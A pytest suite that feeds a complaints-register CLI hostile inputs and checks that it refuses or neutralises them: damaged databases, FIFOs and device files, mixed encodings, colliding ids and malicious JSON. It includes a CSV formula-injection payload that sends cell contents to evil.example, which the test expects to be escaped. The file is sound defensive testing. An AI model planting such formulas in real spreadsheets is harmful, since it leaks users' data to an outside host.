"""Hostile inputs to import, new --from-json and the register, each through the real command: a damaged register,
files that are not regular files, formula cells in CSV output, colliding ids, hostile JSON, mixed encodings,
a million-row sheet, a letter damaged after rendering."""

from __future__ import annotations

import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import LETTER_DATE, PROJECT, case_data, write_yaml
from typer.testing import CliRunner

from complaints.cli import app

runner = CliRunner()
REPO_DATA = Path(__file__).resolve().parent.parent / "data"


def run(*args: str) -> tuple[int, str]:
    """The command's exit status and everything it printed; an exception escaping it fails the test."""
    result = runner.invoke(app, list(args))
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"{args}: {type(result.exception).__name__}: {result.exception}\n{result.output}")
    assert "Traceback" not in result.output
    return result.exit_code, result.output


def command(*args: str, cwd: Path, timeout: float = 20, user: int | None = None) -> subprocess.CompletedProcess[str]:
    """The command in a process of its own, so a hang is a failed test (timeout), not a hung suite."""
    proc = subprocess.run([sys.executable, "-m", "complaints.cli", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=timeout, user=user, env={**os.environ, "COLUMNS": "200"})
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


# ---------------------------------------------------------------- 14: a damaged, foreign or read-only register

@pytest.fixture(scope="module")
def filed_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A cases folder with one case rendered and its Russian letter filed: a register with one filing."""
    folder = tmp_path_factory.mktemp("filed") / "cases"
    write_yaml(folder / "complaints.yaml", PROJECT)
    write_yaml(folder / "c1.yaml", case_data(id="case-1"))
    old = Path.cwd()
    os.chdir(folder)
    try:
        code, output = run("render", ".", "--out", "letters", "--date", LETTER_DATE.isoformat(), "--workers", "1",
                           "--format", "docx", "-q")
        assert code == 0, output
        code, output = run("filed", "c1.yaml", "--lang", "ru", "--on", "2026-11-03T10:00", "--channel", "eotinish",
                           "--anyway")
        assert code == 0, output
    finally:
        os.chdir(old)
    return folder


@pytest.fixture
def project(filed_project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "cases"
    shutil.copytree(filed_project, folder)
    monkeypatch.chdir(folder)
    return folder


def _not_sqlite(db: Path) -> None:
    db.write_bytes(b"these are my notes, not a database\n" * 300)


def _truncated(db: Path) -> None:
    os.truncate(db, 4096)  # the first page only: the tables' pages are gone


def _corrupt(db: Path) -> None:
    data = bytearray(db.read_bytes())
    data[4096:] = b"\xa5" * (len(data) - 4096)
    db.write_bytes(bytes(data))


def _foreign(db: Path) -> None:
    db.unlink()
    with sqlite3.connect(db) as other:
        other.execute("CREATE TABLE contacts (name TEXT, phone TEXT)")
        other.execute("INSERT INTO contacts VALUES ('a', 'b')")
    other.close()


DAMAGE = {"not-sqlite": _not_sqlite, "truncated": _truncated, "corrupt": _corrupt, "foreign": _foreign}
COMMANDS = {
    "status": ["status", "--csv", "--today", "2026-11-10"],
    "due": ["due", "--csv", "--today", "2026-11-10"],
    "filed": ["filed", "c1.yaml", "--lang", "kk", "--on", "2026-11-03T10:00", "--channel", "eotinish", "--anyway"],
    "extended": ["extended", "case-1", "--until", "2026-12-30", "--lang", "ru"],
    "reply": ["reply", "case-1", "--on", "2026-11-10", "--outcome", "answered", "--lang", "ru"],
    "remind": ["remind", "--date", "2026-12-30", "--out", "rem"],
    "evidence": ["evidence", "c1.yaml"],
}


@pytest.mark.parametrize("damage", DAMAGE)
@pytest.mark.parametrize("name", COMMANDS)
def test_a_damaged_or_foreign_register_is_one_line_saying_what_to_do(project: Path, damage: str, name: str) -> None:
    db = project / "complaints.db"
    DAMAGE[damage](db)
    before = db.read_bytes()
    code, output = run(*COMMANDS[name])
    assert code == 1, output
    lines = [line for line in output.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, output
    if damage == "foreign":
        assert "an SQLite database of another program, not a complaints register" in lines[0]
    else:
        assert "is damaged or is not a complaints register" in lines[0]
        assert "sqlite3 complaints.db .recover" in lines[0] and "backup" in lines[0]
    assert db.read_bytes() == before  # nothing written into it


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
@pytest.mark.parametrize("name", ["filed", "extended", "reply", "status"])
def test_a_read_only_register_is_a_message(project: Path, name: str) -> None:
    db = project / "complaints.db"
    if os.geteuid() == 0:  # root writes through permissions: make the file immutable instead
        if shutil.which("chattr") is None or subprocess.run(["chattr", "+i", str(db)]).returncode != 0:
            pytest.skip("running as root without chattr")
    else:
        db.chmod(0o444)
    try:
        code, output = run(*COMMANDS[name])
    finally:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(db)], check=True)
        db.chmod(0o644)
    if name == "status":  # reading needs no writing
        assert code in (0, 1), output
        if code == 1:
            assert output.count("error:") == 1 and "cannot be written" in output, output
        return
    assert code == 1, output
    assert output.count("error:") == 1, output
    assert "cannot be written" in output and "writable" in output, output


# ---------------------------------------------------------------- 8: every file read is a regular file first

def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def _device(path: Path) -> Path:
    path.symlink_to("/dev/zero")
    return path


def _huge(path: Path) -> Path:
    with open(path, "wb") as fh:
        fh.truncate(3 * 2**30)  # 3 GB, sparse: nothing on the disk
    return path


NOT_FILES = {"fifo": (_fifo, "is a FIFO"), "device": (_device, "is a device")}


@pytest.mark.parametrize("kind", NOT_FILES)
def test_import_of_a_fifo_or_a_device_is_refused_not_hung(project_dir: Path, kind: str) -> None:
    make, said = NOT_FILES[kind]
    sheet = make(project_dir.parent / "sheet.csv")
    proc = command("import", str(sheet), "--out", "cases", cwd=project_dir.parent, timeout=10)
    assert proc.returncode == 2 and said in proc.stderr, proc.stderr


@pytest.mark.parametrize("kind", NOT_FILES)
def test_a_mapping_file_that_is_a_fifo_or_a_device_is_refused(project_dir: Path, kind: str) -> None:
    make, said = NOT_FILES[kind]
    sheet = REPO_DATA / "monitoring-500.csv"
    mapping = make(project_dir.parent / "map.yaml")
    proc = command("import", str(sheet), "--out", "cases", "--map", str(mapping), cwd=project_dir.parent, timeout=10)
    assert proc.returncode == 2 and said in proc.stderr and "--map" in proc.stderr, proc.stderr


@pytest.mark.parametrize("kind", NOT_FILES)
def test_new_from_json_of_a_fifo_or_a_device_is_refused(project_dir: Path, kind: str) -> None:
    make, said = NOT_FILES[kind]
    source = make(project_dir.parent / "case.json")
    proc = command("new", "--out", "cases", "--from-json", str(source), cwd=project_dir.parent, timeout=10)
    assert proc.returncode == 2 and said in proc.stderr and "--from-json" in proc.stderr, proc.stderr


@pytest.mark.parametrize("kind", [*NOT_FILES, "huge"])
@pytest.mark.parametrize("name", ["reply", "filed"])
def test_reply_and_filed_file_that_is_not_a_document_is_refused(project: Path, kind: str, name: str) -> None:
    make, said = NOT_FILES.get(kind, (_huge, "larger than the 256 MiB a document may be"))
    file = make(project / "reply.pdf")
    proc = command(*COMMANDS[name], "--file", str(file), cwd=project, timeout=10)
    assert proc.returncode == 2 and said in proc.stderr and "--file" in proc.stderr, proc.stderr
    assert not any(p.stat().st_size > 2**20 for p in (project / "complaints.archive").rglob("*") if p.is_file())


@pytest.mark.parametrize("how", ["path", "glob", "link"])
def test_a_case_file_that_is_a_fifo_or_a_device_is_refused_not_hung(project_dir: Path, how: str) -> None:
    write_yaml(project_dir / "good.yaml", case_data(id="good"))
    if how == "link":
        _device(project_dir / "zero.yaml")
    else:
        _fifo(project_dir / "pipe.yaml")
    given = {"path": "pipe.yaml", "glob": "*.yaml", "link": "zero.yaml"}[how]
    proc = command("validate", given, cwd=project_dir, timeout=10)
    assert proc.returncode == 2, proc.stderr
    assert "is not a regular file" in proc.stderr and ("pipe.yaml" in proc.stderr or "zero.yaml" in proc.stderr)
    # a folder of cases skips what is not a file, and says nothing of it
    proc = command("validate", ".", cwd=project_dir, timeout=10)
    assert proc.returncode == 0, proc.stderr


# ---------------------------------------------------------------- 12: no formula in status --csv, due --csv

@pytest.mark.parametrize("ref", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
                                 "\tx"])  # a CR in a reference is refused when it is filed (test_case_input)
@pytest.mark.parametrize("name", ["status", "due"])
def test_a_reference_that_is_a_formula_is_text_in_the_csv(project: Path, ref: str, name: str) -> None:
    code, output = run("filed", "c1.yaml", "--lang", "kk", "--on", "2026-11-03T10:00", "--channel", "eotinish", "--anyway",
                       "--ref", ref)
    assert code == 0, output
    result = runner.invoke(app, [*COMMANDS[name], "--csv", *(["--within", "20"] if name == "due" else [])])
    assert result.exit_code == 0, result.output
    import csv
    import io

    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    cells = [row[3] for row in rows[1:] if row[1] == "kk"]
    assert cells == ["'" + ref], result.stdout
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


# ---------------------------------------------------------------- 4: ids that collide are told apart by content

HEADER = "Заголовок;Дата комментария;Издание;Адрес сайта;Ссылка на статью;Автор комментария;Текст комментария;Язык;Нормы\n"


def _sheet(path: Path, numbers: range, *, repeat: int | None = None) -> Path:
    rows = [f"Статья;06.10.2023 22:53;Nur.kz;https://www.nur.kz;https://www.nur.kz/a/;Автор;Комментарий номер {n};ru;"
            "criminal-code-174-1\n" for n in numbers]
    if repeat is not None:
        rows.append(rows[repeat])
    path.write_text(HEADER + "".join(rows), encoding="utf-8")
    return path


def test_ids_have_64_bits_and_no_collision_among_a_million_comments_of_one_outlet_and_day() -> None:
    from complaints.case.write import suggest_id

    base = {"outlet": {"name": "Nur.kz", "url": "https://www.nur.kz"}, "comment": {"posted": "2023-10-06"}}
    ids = {suggest_id({**base, "comment": {"posted": "2023-10-06", "text": f"Комментарий номер {n}"}})
           for n in range(100_000)}  # the 833 and 3022 among them (24 bits: 262 pairs)
    assert len(ids) == 100_000
    assert all(len(i.rsplit("-", 1)[1]) == 16 for i in list(ids)[:10])


def test_in_one_sheet_a_collision_is_not_called_the_same_comment(project_dir: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("complaints.case.write.HASH_HEX", 1)  # 16 ids: collisions certain, as 24 bits were at 100k
    sheet = _sheet(project_dir.parent / "s.csv", range(40), repeat=0)
    code, output = run("import", str(sheet), "--out", str(project_dir))
    assert code == 1
    assert "is a different comment from row" not in output
    assert "a different comment from row" in output and "collision" in output
    assert output.count("the same comment as row 2") == 1  # the true duplicate, the last row, only
    assert f"s.csv:{40 + 2}:" in output.split("the same comment as row 2")[0].rsplit("\n", 1)[-1], output


@pytest.mark.parametrize("update", [False, True])
def test_across_imports_a_collision_never_turns_one_case_into_another(project_dir: Path, update: bool,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("complaints.case.write.HASH_HEX", 1)
    first = _sheet(project_dir.parent / "first.csv", range(1))
    code, output = run("import", str(first), "--out", str(project_dir))
    assert code == 0, output
    (case,) = sorted(project_dir.glob("nur-kz-*.yaml"))
    before = case.read_bytes()
    from complaints.case.write import suggest_id

    target = case.stem
    other = next(n for n in range(1, 500) if suggest_id(
        {"outlet": {"name": "Nur.kz", "url": "https://www.nur.kz"}, "article": {"url": "https://www.nur.kz/a/"},
         "comment": {"author": "Автор", "posted": "2023-10-06T22:53", "text": f"Комментарий номер {n}"}}) == target)
    second = _sheet(project_dir.parent / "second.csv", range(other, other + 1))
    code, output = run("import", str(second), "--out", str(project_dir), *(["--update"] if update else []))
    assert code == 1, output
    assert "a different comment with the same id" in output and case.name in output and "second.csv" in output
    assert "unchanged" in output and "0 unchanged" in output
    assert case.read_bytes() == before


# ---------------------------------------------------------------- 17: new --from-json, hostile JSON

JSON_ATTACKS = {
    "deep": ('{"comment": ' + "[" * 50_000 + "]" * 50_000 + "}", "1:", "nested deeper than 64 levels"),
    "surrogate": ('{\n  "comment": {"text": "a\\ud800b"}\n}', "2:25:", "half of a UTF-16 surrogate pair"),
    "nan": ('{\n  "comment": {"text": NaN}\n}', "2:23:", "NaN is not a number JSON allows"),
    "infinity": ('{\n  "format": Infinity\n}', "2:13:", "Infinity is not a number JSON allows"),
    "digits": ('{\n  "format": ' + "9" * 5000 + "\n}", "2:13:", "a number of 5000 characters"),
}


@pytest.mark.parametrize("attack", JSON_ATTACKS)
def test_hostile_json_is_a_located_error_and_nothing_written(project_dir: Path, attack: str) -> None:
    text, where, said = JSON_ATTACKS[attack]
    source = project_dir.parent / "case.json"
    source.write_text(text, encoding="utf-8")
    proc = command("new", "--out", "cases", "--from-json", str(source), cwd=project_dir.parent)
    assert proc.returncode == 1, proc.stderr
    assert f"case.json:{where}" in proc.stderr and said in proc.stderr, proc.stderr
    assert "nothing written" in proc.stderr
    assert sorted(p.name for p in project_dir.iterdir()) == ["complaints.yaml"]


# ---------------------------------------------------------------- 16: a CSV in more than one encoding

def _csv_lines(numbers: range) -> list[bytes]:
    return [f"Статья;06.10.2023 22:53;Nur.kz;https://www.nur.kz;https://www.nur.kz/a/;Иван;Привет номер {n};ru;"
            "criminal-code-174-1\r\n".encode() for n in numbers]


def test_a_csv_partly_utf8_partly_windows_1251_is_refused_with_the_lines_that_differ(project_dir: Path) -> None:
    lines = _csv_lines(range(6))
    lines[3] = lines[3].decode("utf-8").encode("cp1251")  # line 5 of the file
    sheet = project_dir.parent / "mixed.csv"
    sheet.write_bytes(HEADER.encode() + b"".join(lines))
    code, output = run("import", str(sheet), "--out", str(project_dir))
    assert code == 2, output
    assert "is not in one encoding" in output and "lines 1, 2, 3, 4, 6, 7 are UTF-8 text, line 5 is not" in output
    assert "РџСЂРёРІРµС‚" not in output
    assert sorted(p.name for p in project_dir.iterdir()) == ["complaints.yaml"]  # nothing imported


def test_a_bad_byte_is_reported_at_its_own_line(project_dir: Path) -> None:
    lines = _csv_lines(range(8))  # "Иван" is D0 98 in UTF-8: 0x98, the one byte Windows-1251 lacks, on every line
    lines[5] = lines[5].replace("номер".encode(), b"\x98\xff")  # line 7: neither UTF-8 nor Windows-1251
    sheet = project_dir.parent / "bad.csv"
    sheet.write_bytes(HEADER.encode() + b"".join(lines))
    code, output = run("import", str(sheet), "--out", str(project_dir))
    assert code == 2, output
    assert "bad.csv: line 7, byte" in output and "0x98 is neither UTF-8 nor Windows-1251" in output, output
    assert sorted(p.name for p in project_dir.iterdir()) == ["complaints.yaml"]


# ---------------------------------------------------------------- 10: rows streamed, memory flat

def _peak_import(folder: Path, project_dir: Path, rows: int) -> int:
    """The peak memory (bytes) of importing a sheet of `rows` rows holding no case (a note column only)."""
    sheet = folder / f"{rows}.csv"
    blank = ";" * 9 + "заметка монитора, в столбце, который импорт не читает\n"
    with open(sheet, "w", encoding="utf-8") as fh:
        fh.write(HEADER.rstrip("\n") + ";Заметка\n" + blank * rows)
    # VmHWM, the process's own peak (ru_maxrss would carry pytest's over the exec)
    script = ("import sys; from complaints.cli import main; sys.argv = ['complaints', *sys.argv[1:]]\n"
              "try:\n    main()\nfinally:\n    print('PEAK', [l.split()[1] for l in open('/proc/self/status')"
              " if l.startswith('VmHWM')][0], file=sys.stderr)")
    proc = subprocess.run([sys.executable, "-c", script, "import", str(sheet), "--out", str(project_dir)],
                          capture_output=True, text=True, timeout=60, cwd=folder)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    assert f"{rows + 1} rows" not in proc.stderr and "0 rows: 0 new" in proc.stderr, proc.stderr
    return int(proc.stderr.rsplit("PEAK", 1)[1].split()[0]) * 1024


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads the peak memory from /proc")
def test_sheet_rows_are_streamed_in_flat_memory(tmp_path: Path, project_dir: Path) -> None:
    small = _peak_import(tmp_path, project_dir, 10_000)
    large = _peak_import(tmp_path, project_dir, 150_000)
    # every row kept (main): some 60 MiB more for the larger sheet; streamed, the same
    assert large - small < 15 * 2**20, f"{small / 2**20:.0f} MiB for 10,000 rows, {large / 2**20:.0f} for 150,000"


# ---------------------------------------------------------------- 20: a letter damaged after rendering

@pytest.mark.parametrize("damage", ["truncated", "overwritten", "pdf"])
def test_filed_refuses_a_letter_damaged_after_rendering(project: Path, tmp_path: Path, damage: str) -> None:
    letter = project / "letters" / "case-1" / "case-1.kk.docx"
    extra: list[str] = []
    if damage == "truncated":
        os.truncate(letter, letter.stat().st_size // 2)
    elif damage == "overwritten":
        letter.write_bytes(b"\0" * 4096)
    else:
        letter = tmp_path / "signed.pdf"
        letter.write_bytes(b"<html>not the PDF</html>")
        extra = ["--file", str(letter)]
    db = project / "complaints.db"
    before = db.read_bytes()
    code, output = run(*COMMANDS["filed"], *extra)
    assert code == 2, output
    assert f"{letter.name} is not a valid {letter.suffix[1:].upper()} file" in output and "render it again" in output
    with sqlite3.connect(db) as check:
        assert check.execute("SELECT count(*) FROM filings").fetchone()[0] == 1  # the ru filing only
    check.close()
    assert before  # the register was there before, and nothing was added to it


def test_a_register_of_a_newer_version_with_tables_of_its_own_asks_to_update(project: Path) -> None:
    with sqlite3.connect(project / "complaints.db") as db:
        db.execute("CREATE TABLE later (x)")
        db.execute("PRAGMA user_version = 99")
    db.close()
    code, output = run(*COMMANDS["status"])
    assert code == 1 and "made by a newer version of complaints" in output, output
